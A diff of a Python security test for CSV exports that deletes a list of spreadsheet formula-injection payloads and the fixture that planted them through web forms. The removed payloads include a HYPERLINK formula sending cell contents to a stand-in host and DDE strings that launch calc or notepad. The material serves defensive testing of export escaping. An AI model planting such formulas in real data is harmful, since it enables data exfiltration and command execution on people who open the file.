@@ -8,24 +8,9 @@ fetched as each visitor who finds it, and every cell is read back."""
 import csv
 import io
 
-import pytest
-
 from tests.security.conftest import visitor_client
 from tests.security.discovery import Site, Visit
-from tests.security.filling import fill, typed_fields
 from toolbox.web.csvexport import FORMULA_STARTS
-
-FORMULAS = (
-    '=HYPERLINK("https://evil.example/?d="&A1;"Öppna")',
-    "+SUM(1;1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C notepad'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "=1+1",
-)
-# Forms that end the session or need a secret the suite does not have.
-SKIPPED = {"auth.logout", "auth.change_password", "auth.set_password", "auth.login"}
 
 
 def cells(body: str) -> list[str]:
@@ -41,22 +26,6 @@ def csv_exports(site: Site) -> list[Visit]:
         if visit.content_type.startswith("text/csv"):
             found.setdefault(visit.url, visit)
     return list(found.values())
-
-
-@pytest.fixture(scope="module")
-def planted(demo_app, demo_seed, site) -> int:
-    """Formulas saved through every form that takes free text; how many forms."""
-    saved = 0
-    for form in site.unique_forms():
-        fields = typed_fields(form)
-        if not fields or form.endpoint in SKIPPED:
-            continue
-        client = visitor_client(demo_app, form.role, demo_seed.prepared)
-        values = {name: FORMULAS[i % len(FORMULAS)] for i, name in enumerate(fields)}
-        filled = fill(client, form, values)
-        assert filled.status < 500, f"{form.endpoint}: {filled.status}"
-        saved += filled.saved and len(filled.refused) < len(fields)
-    return saved
 
 
 def test_every_export_is_found(site):
